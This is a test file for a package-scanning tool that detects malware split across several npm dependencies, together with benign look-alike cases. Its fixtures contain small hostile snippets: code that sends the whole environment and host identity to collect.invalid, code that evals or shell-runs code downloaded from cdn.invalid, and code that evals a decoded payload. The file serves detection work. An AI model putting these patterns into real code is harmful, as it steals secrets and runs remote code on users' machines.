import assert from 'node:assert/strict';
import { analysePackage } from '../../../server/src/artifacts/analysis/analyse.js';
import { linkedFacts } from '../../../server/src/engine/linking/link.js';
import { linkedWith } from '../../../server/src/engine/linking/joined-targets.js';
import { ok, type ArtifactFacts, type Level } from '../../../server/src/model/index.js';
import { RULES } from '../../../server/src/rules/index.js';
import { createScorer } from '../../../server/src/scoring/weighted-scorer.js';
import { assess } from '../../../server/src/engine/assess.js';
import { EMPTY_POLICY, NO_REGISTRIES } from '../../../server/src/model/index.js';
import { packageOf } from '../../support/artifacts.js';
import { NOW, subject } from '../../support/subjects.js';

/** Code by package: a text is its `index.js`. The first one is what is judged; it depends on all others. */
type Packages = Readonly<Record<string, string | Readonly<Record<string, string>>>>;

function analysed(packages: Packages): readonly ArtifactFacts[] {
  const names = Object.keys(packages);
  return Object.entries(packages).map(([name, code], index) => {
    const files = typeof code === 'string' ? { 'index.js': code } : code;
    const dependencies = Object.fromEntries((index === 0 ? names.slice(1) : []).map((one) => [one, '^1.0.0']));
    const manifest = { name, version: '1.0.0', dependencies };
    return analysePackage(packageOf({ 'package.json': JSON.stringify(manifest), ...files }));
  });
}

async function linked(packages: Packages): Promise<ArtifactFacts> {
  const [first, ...others] = analysed(packages);
  assert.ok(first !== undefined);
  const neighbours = others.map((facts) => ({
    name: () => Promise.resolve(facts.manifest?.name),
    analyse: () => Promise.resolve(ok(facts, NOW)),
  }));
  return linkedFacts(await linkedWith(first, neighbours));
}

/** `environment>network@collect.invalid import` with the packages that hold the ends, where they are others. */
function flowsIn({ flows }: ArtifactFacts): readonly string[] {
  return flows.map(({ source, sink, host, moment, from, to }) => {
    const at = host === undefined ? '' : `@${host}`;
    const places = [from.package ?? '', to.package ?? ''].join('>');
    return `${source}>${sink}${at} ${moment} ${places}`;
  });
}

function judged(facts: ArtifactFacts): { readonly level: Level; readonly messages: readonly string[] } {
  const judgement = {
    ...{ rules: RULES, scorer: createScorer(), policy: EMPTY_POLICY, registries: NO_REGISTRIES },
    ...{ now: NOW, cooldownHours: 72 },
  };
  const { level, findings } = assess(subject(), { artifact: ok(facts, NOW) }, false, judgement);
  return { level, messages: findings.map(({ message }) => message) };
}

const FETCHER = `const https = require('https');
exports.load = () => new Promise((resolve) => https.get('https://cdn.invalid/p', (res) => {
  let text = ''; res.on('data', (d) => (text += d)); res.on('end', () => resolve(text)); }));`;
const FETCHER_WITH_CALLBACK = `const https = require('https');
module.exports = function load(done) { https.get('https://cdn.invalid/p', (res) => {
  let text = ''; res.on('data', (d) => (text += d)); res.on('end', () => done(null, text)); }); };`;
const RUNNER = `exports.run = (code) => inner({ code }); function inner({ code }) { return new Function(code)(); }`;
const COLLECTOR = `exports.collect = () => { const all = {}; for (const k in process.env) all[k] = process.env[k]; return JSON.stringify(all); };`;
const SENDER = `export class Client { constructor(options) { this.options = options; }
  async send(data) { return post(JSON.stringify({ data, ...this.options })); } }
const post = (body) => fetch('https://collect.invalid', { method: 'POST', body });`;
const DECODER = `exports.decode = (text) => { const bytes = Buffer.from(text, 'base64'); return bytes.map((b) => b ^ 7).toString(); };`;
const PAYLOAD = 'aGVsbG8gd29ybGQgaGVsbG8gd29ybGQgaGVsbG8gd29ybGQ=';

/** What each part does by itself is nothing; together they are what the last column says. */
const ATTACKS: Readonly<Record<string, readonly [Packages, string]>> = {
  'a fetcher in one and the evaluation in the other': [
    { app: `const { load } = require('b-load'); load().then((code) => eval(code));`, 'b-load': FETCHER },
    'downloaded>evaluated import b-load@1.0.0>',
  ],
  'a fetcher that calls back': [
    {
      app: `require('b-load')((error, code) => { if (!error) new Function(code)(); });`,
      'b-load': FETCHER_WITH_CALLBACK,
    },
    'downloaded>evaluated import b-load@1.0.0>',
  ],
  'a fetcher and a runner that only meet here': [
    {
      app: `const { load } = require('b-load'); const { run } = require('b-run'); (async () => run(await load()))();`,
      'b-load': FETCHER,
      'b-run': RUNNER,
    },
    'downloaded>evaluated import b-load@1.0.0>b-run@1.0.0',
  ],
  'the download here and a runner there': [
    {
      app: `const run = require('b-run'); require('https').get('https://cdn.invalid/p', (res) => res.on('data', (d) => run.run(d.toString())));`,
      'b-run': RUNNER,
    },
    'downloaded>evaluated import >b-run@1.0.0',
  ],
  'a collector and a sender': [
    {
      app: `import { collect } from 'b-collect'; import { Client } from 'b-send'; new Client({ id: 1 }).send(collect());`,
      'b-collect': COLLECTOR,
      'b-send': SENDER,
    },
    'environment>network@collect.invalid import b-collect@1.0.0>b-send@1.0.0',
  ],
  'a sender that is given the environment': [
    { app: `const { Client } = require('b-send'); const c = new Client(process.env); c.send('up');`, 'b-send': SENDER },
    'environment>network@collect.invalid import >b-send@1.0.0',
  ],
  'a collector whose data is sent from here': [
    {
      app: `fetch('https://collect.invalid', { method: 'POST', body: require('b-collect').secrets.env });`,
      'b-collect': `module.exports.secrets = { env: JSON.stringify({ ...process.env }) };`,
    },
    'environment>network@collect.invalid import b-collect@1.0.0>',
  ],
  'a decoder and the evaluation of what it makes of a constant': [
    { app: `const d = require('b-decode'); eval(d.decode('${PAYLOAD}'));`, 'b-decode': DECODER },
    'decoded>evaluated import >',
  ],
  'a decoder and a runner': [
    {
      app: `const d = require('b-decode'); const r = require('b-run'); r.run(d.decode('${PAYLOAD}'));`,
      'b-decode': DECODER,
      'b-run': RUNNER,
    },
    'decoded>evaluated import >b-run@1.0.0',
  ],
  'a download that is decoded by another one': [
    {
      app: `const d = require('b-decode'); require('b-load').load().then((text) => eval(d.decode(text)));`,
      'b-load': FETCHER,
      'b-decode': DECODER,
    },
    'downloaded>evaluated import b-load@1.0.0>',
  ],
  'a payload that waits for somebody to start it': [
    {
      app: `require('b-start').init();`,
      'b-start': `const os = require('os'); exports.init = () => fetch('https://collect.invalid', { method: 'POST', body: JSON.stringify([os.hostname(), os.userInfo()]) });`,
    },
    'host-identity>network@collect.invalid import b-start@1.0.0>b-start@1.0.0',
  ],
  'a third package that only hands on': [
    {
      app: `require('b-front').load().then((code) => eval(code));`,
      'b-front': `module.exports = require('b-load');`,
      'b-load': FETCHER,
    },
    'downloaded>evaluated import b-load@1.0.0>',
  ],
  'ECMAScript modules that hand on all they import': [
    {
      app: {
        'package.json': '{"name":"app","version":"1.0.0","type":"module"}',
        'index.js': `import { load } from 'b-front'; eval(await load());`,
      },
      'b-front': `export * from 'b-load';`,
      'b-load': FETCHER,
    },
    'downloaded>evaluated import b-load@1.0.0>',
  ],
  TypeScript: [
    {
      app: {
        'index.ts': `import { load } from 'b-load'; const go = async (): Promise<void> => { const code: string = await load(); eval(code); }; void go();`,
      },
      'b-load': {
        'index.ts': `import https from 'node:https'; export async function load(): Promise<string> { return (await fetch('https://cdn.invalid/p')).text(); }`,
      },
    },
    'downloaded>evaluated import b-load@1.0.0>',
  ],
  'what compilers make of default imports': [
    {
      app: `var __importDefault = (this && this.__importDefault) || function (mod) { return (mod && mod.__esModule) ? mod : { "default": mod }; };
        const b_1 = __importDefault(require('b-load')); (0, b_1.default)((e, code) => eval(code));`,
      'b-load': FETCHER_WITH_CALLBACK,
    },
    'downloaded>evaluated import b-load@1.0.0>',
  ],
  'a module below the root of the other': [
    {
      app: `require('b-load/lib/load.js').load().then(eval);`,
      'b-load': { 'index.js': 'exports.version = 1;', 'lib/load.js': FETCHER },
    },
    'downloaded>evaluated import b-load@1.0.0>',
  ],
  'an emitter': [
    {
      app: `require('b-watch').watch().on('code', (code) => eval(code));`,
      'b-watch': `const E = require('events'); exports.watch = () => { const e = new E(); fetch('https://cdn.invalid').then((r) => r.text()).then((t) => e.emit('code', t)); return e; };`,
    },
    'downloaded>evaluated import b-watch@1.0.0>',
  ],
  'a command that a package is given': [
    {
      app: `require('b-load').load().then((text) => require('b-sh').sh(text));`,
      'b-load': FETCHER,
      'b-sh': `const { execSync } = require('child_process'); exports.sh = (command) => execSync(command);`,
    },
    'downloaded>run-as-command import b-load@1.0.0>b-sh@1.0.0',
  ],
};

/** The same parts with the end taken out, and what honest packages do with each other. */
const HONEST: Readonly<Record<string, Packages>> = {
  'a fetcher whose data is parsed': {
    app: `require('b-load').load().then((text) => JSON.parse(text));`,
    'b-load': FETCHER,
  },
  'a runner that runs a constant': { app: `require('b-run').run('1 + 1');`, 'b-run': RUNNER },
  'a fetcher beside a runner': {
    app: `const { load } = require('b-load'); const { run } = require('b-run'); load().then(console.log); run('2 * 2');`,
    'b-load': FETCHER,
    'b-run': RUNNER,
  },
  'a decoder whose text is shown': {
    app: `console.log(require('b-decode').decode('${PAYLOAD}'));`,
    'b-decode': DECODER,
  },
  'one decoded text beside a template that is compiled': {
    app: `const d = require('b-decode'); const r = require('b-run'); exports.text = d.decode('${PAYLOAD}'); exports.view = r.run('return 1');`,
    'b-decode': DECODER,
    'b-run': RUNNER,
  },
  'a collector whose data is counted': {
    app: `module.exports = require('b-collect').collect().length > 10;`,
    'b-collect': COLLECTOR,
  },
  'a sender that is given a version': {
    app: `import { Client } from 'b-send'; new Client({ id: 1 }).send({ version: '1.0.0', level: 'info' });`,
    'b-send': SENDER,
  },
  'a loader of settings beside a client of its own service': {
    app: `const { token } = require('b-config'); const axios = require('axios'); exports.list = () => axios.get('https://api.acme.example/v1', { headers: { Authorization: token } });`,
    'b-config': `module.exports = { token: process.env.ACME_TOKEN, level: process.env.LOG_LEVEL };`,
  },
  'dotenv and a client': {
    app: `require('b-dotenv').config(); const got = require('got'); exports.ping = () => got('https://status.example/ping');`,
    'b-dotenv': `const fs = require('fs'); exports.config = () => { const text = fs.readFileSync('.env', 'utf8'); for (const line of text.split('\\n')) { const [k, v] = line.split('='); process.env[k] = v; } return { parsed: text }; };`,
  },
  'a fetcher whose data fills a template of the package': {
    app: `const t = require('b-template'); const view = t.compile('<h1><%= title %></h1>'); require('b-load').load().then((data) => view({ data }));`,
    'b-load': FETCHER,
    'b-template': `exports.compile = (source) => new Function('data', 'return ' + JSON.stringify(source));`,
  },
};

describe('linkedFacts', () => {
  for (const [what, [packages, expected]] of Object.entries(ATTACKS)) {
    it(`sees ${what}`, async () => {
      const facts = await linked(packages);
      assert.ok(flowsIn(facts).includes(expected), flowsIn(facts).join('; '));
      const { level, messages } = judged(facts);
      assert.ok(level === 'high' || level === 'critical', `${level}: ${messages.join('; ')}`);
    });

    it(`says nothing of a package alone, with ${what}`, () => {
      for (const facts of analysed(packages)) {
        const { level, messages } = judged(facts);
        assert.ok(level === 'none' || level === 'medium' || level === 'low', messages.join('; '));
      }
    });
  }

  it('tells which packages take part, with places in all of them', async () => {
    const [packages] = ATTACKS['a collector and a sender'] ?? [{}];
    const { messages } = judged(await linked(packages));
    assert.deepEqual(messages, [
      'some-package 1.0.0 sends the whole environment to collect.invalid when it is imported, together with b-collect@1.0.0 and b-send@1.0.0',
    ]);
  });

  for (const [what, packages] of Object.entries(HONEST)) {
    it(`says nothing of ${what}`, async () => {
      const { level, messages } = judged(await linked(packages));
      assert.ok(level === 'none' || level === 'low', messages.join('; '));
    });
  }

  it('follows packages that import each other no further than once around', async () => {
    const packages = {
      app: `const a = require('a'); eval(a.pass(process.env));`,
      a: `const b = require('b'); exports.pass = (x) => b.pass(Buffer.from(x, 'hex'));`,
      b: `const a = require('a'); exports.pass = (x) => a.pass(Buffer.from(x, 'hex'));`,
    };
    assert.deepEqual(flowsIn(await linked(packages)), []);
  });
});
